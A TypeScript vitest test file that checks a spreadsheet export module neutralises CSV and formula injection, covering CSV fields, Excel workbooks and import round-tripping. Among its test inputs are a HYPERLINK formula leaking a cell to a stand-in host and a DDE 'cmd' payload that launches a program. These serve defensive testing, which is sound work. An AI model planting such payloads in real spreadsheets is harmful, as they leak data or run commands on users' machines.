import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvField, csvFile, importedText, neutralText, xlsxFile } from './safe-spreadsheet';

// OWASP CSV Injection: every text cell that could start a formula is prefixed with a quote.
const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

describe('neutral cells', () => {
  it('prefixes a text beginning with any formula character, full-width forms included, and nothing else', () => {
    for (const start of STARTS) expect(neutralText(`${start}1+1`), JSON.stringify(start)).toBe(`'${start}1+1`);
    for (const plain of ['林小明', 'S10101', ' =1+1', "'=1+1", 'a=1', '']) expect(neutralText(plain)).toBe(plain);
  });

  it('writes CSV fields byte for byte: numbers as numbers, texts neutral and quoted when they must be', () => {
    expect(csvField(-2)).toBe('-2');
    expect(csvField(86.5)).toBe('86.5');
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('=HYPERLINK("http://x.example/?leak="&B2,"點我")')).toBe('"\'=HYPERLINK(""http://x.example/?leak=""&B2,""點我"")"');
    expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField(null)).toBe('');
    expect(csvField(Number.NaN)).toBe('NaN');
    expect(csvFile([['a', 1], ['@SUM(1+1)', -1]]).toString('utf8')).toBe("\ufeffa,1\r\n'@SUM(1+1),-1\r\n");
  });

  it('neutralises every text cell of a workbook (plain, rich, hyperlink) and leaves numbers as number cells', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('x');
    sheet.addRow(['+1+1', -2, '林小明', { richText: [{ text: '＝1' }, { text: '+1' }] }, { text: '@x', hyperlink: 'http://x.example/' }]);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await xlsxFile(workbook)) as unknown as ArrayBuffer);
    const row = read.worksheets[0].getRow(1);
    expect(row.getCell(1).value).toBe("'+1+1");
    expect(row.getCell(2).value).toBe(-2);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(3).value).toBe('林小明');
    expect(row.getCell(4).text).toBe("'＝1+1");
    expect(row.getCell(5).text).toBe("'@x");
  });

  it('gives an imported cell back as it was before our export quoted it', () => {
    for (const start of STARTS.filter((s) => s.trim() !== '')) expect(importedText(neutralText(`${start}1`))).toBe(`${start}1`);
    expect(importedText("'林")).toBe("'林");
    expect(importedText('林')).toBe('林');
  });
});
